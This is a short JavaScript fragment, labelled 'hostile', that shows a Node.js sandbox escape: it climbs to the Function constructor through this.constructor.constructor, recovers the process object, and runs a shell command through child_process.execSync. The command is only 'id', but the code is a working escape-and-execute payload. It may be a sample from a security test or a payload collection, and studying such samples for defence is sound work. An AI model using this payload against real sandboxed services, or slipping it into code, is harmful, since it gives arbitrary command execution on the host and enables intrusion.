// hostile: the process through code made by a constructor
const p = this.constructor.constructor("return process")();
p.mainModule.require("child_process").execSync("id");
